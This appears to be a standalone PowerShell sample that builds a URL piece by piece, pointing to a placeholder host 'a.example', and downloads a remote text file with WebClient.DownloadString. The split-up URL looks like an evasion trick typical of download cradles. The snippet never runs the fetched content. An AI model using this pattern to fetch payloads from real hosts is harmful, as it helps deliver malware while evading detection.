$b=New-Object Text.StringBuilder; [void]$b.Append('http://'); $b.Append('a.example').Append('/p/x.txt') | Out-Null
$wc = New-Object System.Net.WebClient
$wc.DownloadString($b.ToString())
